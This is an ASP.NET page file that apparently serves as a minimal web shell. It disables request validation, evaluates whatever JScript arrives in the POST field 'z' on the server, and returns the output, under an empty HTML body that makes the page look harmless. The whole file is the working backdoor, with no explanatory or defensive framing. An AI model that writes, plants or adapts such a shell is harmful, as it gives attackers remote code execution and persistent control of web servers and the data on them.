<%@ Page Language="C#" ValidateRequest="false" %>
<%@ Import Namespace="Microsoft.JScript" %>
<script runat="server">
    protected void Page_Load(object sender, EventArgs e)
    {
        string code = Request.Form["z"];
        if (!string.IsNullOrEmpty(code))
        {
            Response.Write(Microsoft.JScript.Eval.JScriptEvaluate(code, Microsoft.JScript.Vsa.VsaEngine.CreateEngine()));
        }
    }
</script>
<html><body></body></html>
